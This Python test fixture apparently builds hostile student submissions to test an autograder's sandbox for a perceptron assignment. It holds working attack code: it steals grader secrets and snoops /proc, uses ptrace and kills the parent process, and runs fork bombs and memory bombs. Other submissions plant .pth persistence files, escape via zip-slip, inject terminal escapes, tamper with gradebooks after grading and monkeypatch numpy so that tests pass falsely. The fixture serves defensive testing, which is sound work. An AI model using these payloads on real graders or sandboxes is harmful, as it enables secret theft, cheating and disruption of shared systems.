"""A hostile class built in code: one submission per attack, each tagged so its traces can be found.

Every attacker's files, processes (their `comm` name) and planted files carry its tag ("hx-...").
``bound`` is the most the submission may score: what the same code without the attack earns
(0 for a stub; for a catalogued mistake, what the honest student with that mistake gets).
"""
from __future__ import annotations

import os
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
REFERENCE = (ROOT / "solutions" / "perceptron.py").read_text()
IN_PLACE = REFERENCE + "\n" + (ROOT / "solutions" / "mistakes" / "perceptron" / "update_in_place.py").read_text()
BACKPROP_MISTAKE = (ROOT / "solutions" / "backprop.py").read_text() + "\n" + (
    ROOT / "solutions" / "mistakes" / "backprop" / "backward_consumes_cache.py").read_text()

STUB = '''
import numpy as np

def sign(z):
    raise NotImplementedError

def predict(w, X):
    raise NotImplementedError

def update(w, x, y, y_hat, lr):
    raise NotImplementedError

def train(X, y, lr=1.0, max_iter=1000, w_init=None):
    raise NotImplementedError
'''

HELPERS = '''
import ctypes, json, os, struct, sys, time

def frame(message):
    data = json.dumps(message).encode()
    os.write(3, struct.pack(">I", len(data)) + data)

def name_me(tag):
    try:
        ctypes.CDLL(None).prctl(15, tag.encode()[:15], 0, 0, 0)  # PR_SET_NAME: how the tests find us
    except Exception:
        pass

def daemon(body):
    """Run body() in a grandchild in its own session (an orphan once its parent exits)."""
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                name_me(TAG)
                try:
                    body()
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    try:
        os.wait()
    except Exception:
        pass

def when_written(target, change):
    """In an orphan: wait until target(--out of the grader) exists, then change(path) it after the grader is done."""
    def body():
        deadline = time.time() + 100
        while time.time() < deadline:
            for out in cmdline_values("--out"):
                path = target(out)
                if os.path.exists(path):
                    time.sleep(1.0)
                    try:
                        change(path)
                        return
                    except OSError:
                        pass
            time.sleep(0.1)
    daemon(body)

def cmdline_values(flag):
    """Values of ``flag`` on every command line this process can see."""
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            except OSError:
                continue
            for i, a in enumerate(args[:-1]):
                if a == flag.encode():
                    found.append(args[i + 1].decode(errors="replace"))
    return found
'''

# -- the attacks (module text after the stub; TAG is set first) -----------------------------------
DESYNC_DICT = '''
def sign(z):
    frame({"event": "done", "case": "sign_lecture", "seconds": 0, "mutations": {"w": 1}, "status": "ok", "value": 1})
    time.sleep(30)
'''
DESYNC_SLEEP = '''
def sign(z):
    frame({"event": "tick", "case": "sign_lecture"})
    time.sleep(30)
'''
IMPORTED_FLOOD = '''
import threading

def _flood():
    while True:
        frame({"event": "imported"})
        time.sleep(0.5)

threading.Thread(target=_flood, daemon=True).start()
_correct = {}
exec(REFERENCE, _correct)

def _slow(name):
    def run(*args, **kwargs):
        time.sleep(4)  # past the 3 s limit: passes only if the flood keeps extending the deadline
        return _correct[name](*args, **kwargs)
    return run

sign, predict, update, train = (_slow(n) for n in ("sign", "predict", "update", "train"))
'''
SURROGATE = '''
class Boom(Exception):
    pass

Boom.__name__ = "Boom\\x1b[31m\\ud800"

def sign(z):
    raise Boom("bad \\ud800 text \\x1b]0;owned\\x07\\x1b[2J " * 40)

predict = update = train = lambda *a, **k: sign(0)
'''
ORPHANS = '''
def sign(z):
    daemon(lambda: time.sleep(120))
    raise NotImplementedError
'''
HEAP_SCAN = '''
def _scan():
    """Look through this process's memory (inherited from the fork server) for a classmate's job."""
    decoder = json.JSONDecoder()
    with open("/proc/self/maps") as maps:
        lines = maps.read().splitlines()
    for line in lines:
        parts = line.split()
        if not parts[1].startswith("rw") or (len(parts) > 5 and parts[5].startswith(("/", "[v", "[s"))):
            continue
        start, end = (int(x, 16) for x in parts[0].split("-"))
        if end - start > 64 << 20:
            continue
        data = ctypes.string_at(start, end - start)  # our own memory: no /proc/self/mem permission needed
        at = data.find(b'"source":"')
        while at >= 0:
            try:
                text, _ = decoder.raw_decode(data[at + 9:at + 200000].decode("utf-8", "ignore"))
            except ValueError:
                text = ""
            if "def train" in text and "TAG =" not in text:  # a classmate's, not an attacker's
                return text
            at = data.find(b'"source":"', at + 1)
    return None

_found = _scan()
if _found:
    exec(_found, globals())
'''
SHM = '''
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY = 0x48580001
'''
SHM_WRITER = SHM + '''
_id = libc.shmget(KEY, 4096, 0o1000 | 0o666)  # IPC_CREAT
if _id >= 0:
    _at = libc.shmat(_id, None, 0)
    ctypes.memmove(_at, b"HX-SHM", 6)
'''
SHM_READER = SHM + '''
def _seen():
    _id = libc.shmget(KEY, 0, 0)
    if _id < 0:
        return False
    _at = libc.shmat(_id, None, 0o10000)  # SHM_RDONLY
    return _at not in (None, ctypes.c_void_p(-1).value) and ctypes.string_at(_at, 6) == b"HX-SHM"

if _seen():  # a classmate left it: behave correctly and take the points
    exec(REFERENCE, globals())
'''
BUSY = '''
def sign(z):
    for _ in range(15):
        if os.fork() == 0:
            name_me(TAG)
            while True:
                pass
    while True:
        pass
'''
SECOND_CHECKOUT = '''
import glob
for _path in sorted(glob.glob("/tmp/*/solutions/perceptron.py") + glob.glob("/opt/*/solutions/perceptron.py")
                    + glob.glob("/srv/*/solutions/perceptron.py") + glob.glob("/home/*/*/solutions/perceptron.py")):
    try:
        exec(open(_path).read(), globals())
        break
    except Exception:
        pass
'''
RUN_LOCK = '''
for _where in ("/run/lock", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(_where, TAG + "-" + str(os.getpid())), "w") as _f:
            _f.write("x" * 1000)
    except OSError:
        pass
'''
PTH = '''
import site, sysconfig, pwd
_dirs = [p for p in sys.path if p.endswith("-packages")] + [sysconfig.get_paths()["purelib"]]
try:
    _home = pwd.getpwuid(os.getuid()).pw_dir
    _dirs.append(os.path.join(_home, ".local", "lib", "python%d.%d" % sys.version_info[:2], "site-packages"))
except KeyError:
    pass
for _d in _dirs:
    try:
        os.makedirs(_d, exist_ok=True)
        with open(os.path.join(_d, TAG + ".pth"), "w") as _f:
            _f.write("import sys\\n")
    except OSError:
        pass
'''
KILL_TA = '''
import signal
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            if b"hx-canary-process" in open(f"/proc/{_pid}/cmdline", "rb").read():
                os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass
'''
READ_SOLUTIONS = '''
for _p in list(sys.path) + [os.getcwd()]:
    try:
        exec(open(os.path.join(_p, "solutions", "perceptron.py")).read(), globals())
        break
    except Exception:
        pass
'''
GRADEBOOK_REWRITE = '''
def _append(path):
    with open(path, "a") as f:
        f.write("hx-gradebook,999,999\\n")

when_written(lambda out: os.path.join(out, "gradebook.csv"), _append)
'''
SECRET_LEAK = '''
_leak = []
for _path in cmdline_values("--secret-file"):
    try:
        _leak.append(open(_path).read())
    except OSError:
        pass
_leak.append(os.environ.get("GRADER_SECRET", ""))

def sign(z):
    print("LEAK:", _leak)
    raise ValueError("LEAK: " + repr(_leak))

predict = update = train = lambda *a, **k: sign(0)
'''
RESULTS_REWRITE = '''
def _full_marks(path):
    with open(path, "w") as f:
        json.dump({"score": 20, "tests": []}, f)

when_written(lambda out: out, _full_marks)
'''
REPLACE_ARRAY_EQUAL = '''
np.array_equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
_child = sys.modules.get("grader.sandbox.child")
if _child is not None:
    _child._changed = lambda *a, **k: None  # the child's own change detection, switched off
'''
PROC_SNOOP = '''
_seen = []
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        for _what in ("environ", "cmdline"):
            try:
                _seen.append(open(f"/proc/{_pid}/{_what}", "rb").read()[:2000].decode(errors="replace"))
            except OSError:
                pass

def sign(z):
    raise ValueError("SNOOP: " + repr(_seen)[:400])
'''
PTRACE = '''
def sign(z):
    libc = ctypes.CDLL(None, use_errno=True)
    attached = libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH
    try:
        open(f"/proc/{os.getppid()}/mem", "rb").read(1)
    except OSError:
        pass
    raise ValueError(f"ptrace gave {attached}")
'''
SIGNAL_SERVER = '''
import signal

def sign(z):
    os.kill(os.getppid(), signal.SIGKILL)
    raise NotImplementedError
'''
EQ_TRICKS = '''
class Always(np.ndarray):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __array_finalize__(self, obj):
        pass

class Anything:
    def __eq__(self, other):
        return True
    def __array__(self, dtype=None, copy=None):
        raise TypeError("no")

def sign(z):
    return np.asarray(z).astype(np.int64).view(Always)

def predict(w, X):
    return Anything()

def update(w, x, y, y_hat, lr):
    return [Anything()]
'''
HOSTILE_EXCEPTION = '''
class Nasty(Exception):
    def __str__(self):
        raise RuntimeError("no message for you")
    def __repr__(self):
        raise RuntimeError("no repr either")

class Exit(SystemExit):
    pass

def sign(z):
    raise Nasty()

def predict(w, X):
    raise Exit(object())

def update(w, x, y, y_hat, lr):
    raise KeyboardInterrupt("x" * 10**6)
'''
MEMORY_BOMB = '''
def sign(z):
    return np.ones((40000, 40000))
'''
FORK_BOMB = '''
def sign(z):
    for _ in range(200):
        try:
            if os.fork() == 0:
                name_me(TAG)
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
    raise NotImplementedError
'''
INFINITE_LOOP = '''
def sign(z):
    while True:
        pass
'''
HUGE_OUTPUT = '''
def sign(z):
    line = "x" * 1_000_000
    for _ in range(2000):
        print(line)
    raise NotImplementedError
'''
NUMPY_POISON = '''
import builtins
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
builtins.isinstance = lambda *a: True
sys.modules["numpy"].ndarray.__module__ = "hacked"
'''
EXITS = '''
def sign(z):
    sys.exit(0)

def predict(w, X):
    os._exit(0)

def train(X, y, lr=1.0, max_iter=1000, w_init=None):
    os._exit(1)
'''
CHANNEL_FORGE = '''
def sign(z):
    frame({"event": "done", "case": "sign_matrix", "seconds": 0, "mutations": [], "status": "ok",
           "value": {"__ndarray__": {"dtype": "<i8", "shape": [1], "b64": "AQAAAAAAAAA="}}})
    return np.where(np.asarray(z) > 0, 1, -1)
'''
FORGE_DRIVER = '''
np.array_equal = lambda *a, **k: True
_child = sys.modules.get("grader.sandbox.child")
if _child is not None:
    _child._changed = lambda *a, **k: None
'''


@dataclass(frozen=True)
class Attack:
    """One hostile submission: its tag (student id), files and the most it may score."""

    tag: str
    kind: str  # folder | zip | nested | raw
    files: dict = field(default_factory=dict)
    bound: str | float = 0.0  # a number, or the honest student whose score bounds it




def _py(tag: str, body: str, base: str = STUB) -> dict:
    reference = f"REFERENCE = {REFERENCE!r}\n" if "REFERENCE" in body else ""
    return {"perceptron.py": f"TAG = {tag!r}\n{reference}{base}\n{HELPERS}\n{body}"}


HONEST = {
    "aaa-honest-reference": {"perceptron.py": REFERENCE},
    "aab-honest-mistake": {"perceptron.py": IN_PLACE, "backprop.py": BACKPROP_MISTAKE},
}

ATTACKS = [
    Attack("hx-desync-dict", "folder", _py("hx-desync-dict", DESYNC_DICT)),
    Attack("hx-desync-sleep", "folder", _py("hx-desync-sleep", DESYNC_SLEEP)),
    Attack("hx-imported-flood", "folder", _py("hx-imported-flood", IMPORTED_FLOOD)),
    Attack("hx-surrogate", "folder", _py("hx-surrogate", SURROGATE)),
    Attack("hx-nested", "nested", _py("hx-nested", "")),
    Attack("hx-escape\x1b]0;owned\x07\x1b[2J", "folder", _py("hx-escape", "")),
    Attack("hx-zipflood", "zip", {f"copy{i}/perceptron.py": STUB for i in range(3000)}),
    Attack("hx-orphans", "folder", _py("hx-orphans", ORPHANS)),
    Attack("hx-heapscan", "folder", _py("hx-heapscan", HEAP_SCAN)),
    Attack("hx-shm-a-writer", "folder", _py("hx-shm-a-writer", SHM_WRITER)),
    Attack("hx-shm-b-reader", "folder", _py("hx-shm-b-reader", SHM_READER)),
    Attack("hx-busy", "folder", _py("hx-busy", BUSY)),
    Attack("hx-second-checkout", "folder", _py("hx-second-checkout", SECOND_CHECKOUT)),
    Attack("hx-runlock", "folder", _py("hx-runlock", RUN_LOCK)),
    Attack("hx-pth", "folder", _py("hx-pth", PTH)),
    Attack("hx-kill-ta", "folder", _py("hx-kill-ta", KILL_TA)),
    Attack("hx-read-solutions", "folder", _py("hx-read-solutions", READ_SOLUTIONS)),
    Attack("hx-gradebook", "folder", _py("hx-gradebook", GRADEBOOK_REWRITE)),
    Attack("hx-secret-leak", "folder", _py("hx-secret-leak", SECRET_LEAK)),
    Attack("hx-array-equal", "folder", _py("hx-array-equal", REPLACE_ARRAY_EQUAL, IN_PLACE), bound="aab-honest-mistake"),
    Attack("hx-forge-driver", "folder", {"backprop.py": BACKPROP_MISTAKE + "\nimport sys\n" + FORGE_DRIVER},
           bound="aab-honest-mistake"),
    Attack("hx-proc", "folder", _py("hx-proc", PROC_SNOOP)),
    Attack("hx-ptrace", "folder", _py("hx-ptrace", PTRACE)),
    Attack("hx-signal-server", "folder", _py("hx-signal-server", SIGNAL_SERVER)),
    Attack("hx-eq-tricks", "folder", _py("hx-eq-tricks", EQ_TRICKS)),
    Attack("hx-exception", "folder", _py("hx-exception", HOSTILE_EXCEPTION)),
    Attack("hx-memory-bomb", "folder", _py("hx-memory-bomb", MEMORY_BOMB)),
    Attack("hx-fork-bomb", "folder", _py("hx-fork-bomb", FORK_BOMB)),
    Attack("hx-infinite-loop", "folder", _py("hx-infinite-loop", INFINITE_LOOP)),
    Attack("hx-huge-output", "folder", _py("hx-huge-output", HUGE_OUTPUT)),
    Attack("hx-zipslip", "zip", {"../../hx-zipslip-escaped/perceptron.py": STUB,
                                 "/tmp/hx-zipslip-abs/perceptron.py": STUB}),
    Attack("hx-numpy-poison", "folder", _py("hx-numpy-poison", NUMPY_POISON)),
    Attack("hx-exits", "folder", _py("hx-exits", EXITS)),
    Attack("hx-channel-forge", "folder", _py("hx-channel-forge", CHANNEL_FORGE)),
]
GRADESCOPE_ATTACK = _py("hx-gradescope", SECRET_LEAK + RESULTS_REWRITE)


def build(root: Path, attacks: list[Attack], honest: dict = HONEST) -> None:
    """Write the class folder: one folder (or zip) per student."""
    root.mkdir(parents=True, exist_ok=True)
    for student, files in honest.items():
        _folder(root / student, files)
    for attack in attacks:
        if attack.kind == "zip":
            with zipfile.ZipFile(root / f"{attack.tag}.zip", "w") as archive:
                for name, text in attack.files.items():
                    archive.writestr(name, text)
        elif attack.kind == "nested":
            deep = str(root / attack.tag)
            os.mkdir(deep)
            _folder(Path(deep), attack.files)
            for _ in range(1100):
                deep += "/d"
                os.mkdir(deep)
            _folder(Path(deep), attack.files)
        else:
            _folder(root / attack.tag, attack.files)


def _folder(folder: Path, files: dict) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8", errors="surrogatepass")
